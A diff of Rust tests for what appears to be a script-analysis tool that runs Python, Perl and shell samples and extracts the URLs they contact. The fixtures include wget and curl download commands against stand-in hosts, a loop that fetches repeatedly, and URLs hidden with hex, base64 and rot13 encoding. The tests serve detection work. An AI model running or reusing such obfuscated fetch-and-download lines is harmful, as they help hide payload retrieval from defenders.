@@ -97,6 +97,9 @@ for i in xrange(2):
     urllib2.urlopen('http://%s/%d' % (host, i)).read()
 exec "urllib2.urlopen('http://192.0.2.7/exec')"
 commands.getoutput('wget http://192.0.2.7/' + quote('a b'))
+urllib2.urlopen('687474703a2f2f3139322e302e322e372f686578'.decode('hex'))
+urllib2.urlopen('aHR0cDovLzE5Mi4wLjIuNy9iNjQ='.decode('base64'))
+urllib2.urlopen('uggc://192.0.2.7/ebg'.decode('rot13'))
 "#;
     let report = run(&kind, None, script, Timestamp::from_secs(1_700_000_000), &limits);
     let mut finds = Finds::new(limits.observables);
@@ -107,67 +110,7 @@ commands.getoutput('wget http://192.0.2.7/' + quote('a b'))
         .filter(|it| it.observable.kind == ObservableKind::Url)
         .map(|it| it.observable.value.as_str())
         .collect();
-    let expected = ["a", "0", "1", "exec", "a%20b"];
-    assert_eq!(urls, expected.map(|path| format!("http://192.0.2.7/{path}")), "{:?}", report.notes);
-}
-
-#[test]
-fn functions_call_themselves_as_often_as_a_text_has_letters() {
-    let url = format!("http://192.0.2.7/{}", "b".repeat(300));
-    let codes: String = url.chars().map(|it| format!("{:03}", u32::from(it) + 7)).collect();
-    let python = format!(
-        "import urllib.request\ndef d(s):\n  if not s:\n    return ''\n  \
-         return chr(int(s[:3]) - 7) + d(s[3:])\nurllib.request.urlopen(d('{codes}'))\n"
-    );
-    let endless = ran("while true; do wget http://192.0.2.10/again; sleep 60; done\n");
-    assert_eq!(endless.urls, ["http://192.0.2.10/again"]);
-    assert!(!endless.notes.is_empty());
-}
-
-#[test]
-fn carriage_returns_do_not_spoil_urls() {
-    assert_eq!(ran("wget http://192.0.2.10/a\r\nwget http://192.0.2.10/b\r\n").urls.len(), 2);
-}
-
-#[test]
-fn files_that_a_script_makes_are_read() {
-    let ran = ran("echo 'curl http://192.0.2.10/inner.sh -o y; sleep 1; echo done' > /tmp/x.sh\n");
-    assert_eq!(ran.urls, ["http://192.0.2.10/inner.sh"]);
-    assert!(ran.notes.iter().any(|note| note.contains("/tmp/x.sh")), "{:?}", ran.notes);
-}
-
-#[test]
-fn python_of_the_second_kind_is_run() {
-    let limits = Limits::default();
-    let kind = kind::identify(b"#!/usr/bin/env python\n", None);
-    let script = br#"#!/usr/bin/env python
-# -*- coding: utf-8 -*-
-import urllib, urllib2, os, commands
-from urllib import quote
-host = '192.0.2.7'
-print "begins", 0755, 10L
-print >>open('/tmp/log', 'w'), "x",
-try:
-    raise ValueError, "no"
-except ValueError, e:
-    print `e`
-if 1 <> 2:
-    urllib.urlretrieve('http://' + host + '/a', '/tmp/a')
-for i in xrange(2):
-    urllib2.urlopen('http://%s/%d' % (host, i)).read()
-exec "urllib2.urlopen('http://192.0.2.7/exec')"
-commands.getoutput('wget http://192.0.2.7/' + quote('a b'))
-"#;
-    let report = run(&kind, None, script, Timestamp::from_secs(1_700_000_000), &limits);
-    let mut finds = Finds::new(limits.observables);
-    report.scan(&mut finds);
-    let urls: Vec<&str> = finds
-        .list
-        .iter()
-        .filter(|it| it.observable.kind == ObservableKind::Url)
-        .map(|it| it.observable.value.as_str())
-        .collect();
-    let expected = ["a", "0", "1", "exec", "a%20b"];
+    let expected = ["a", "0", "1", "exec", "a%20b", "hex", "b64", "rot"];
     assert_eq!(urls, expected.map(|path| format!("http://192.0.2.7/{path}")), "{:?}", report.notes);
 }
 
@@ -184,7 +127,7 @@ fn functions_call_themselves_as_often_as_a_text_has_letters() {
          return chr(substr($s, 0, 3) - 7) . d(substr($s, 3)); }}\nget(d('{codes}'));\n"
     );
     let endless = "def f(x):\n  return f(x + 1) + f(x)\nf(1)\n".to_owned();
-    for (first, script) in [("python3", &python), ("python3", &endless)] {
+    for (first, script) in [("python3", &python), ("perl", &perl), ("python3", &endless)] {
         let limits = Limits::default();
         let kind = kind::identify(format!("#!/usr/bin/{first}\n").as_bytes(), None);
         let now = Timestamp::from_secs(1_700_000_000);
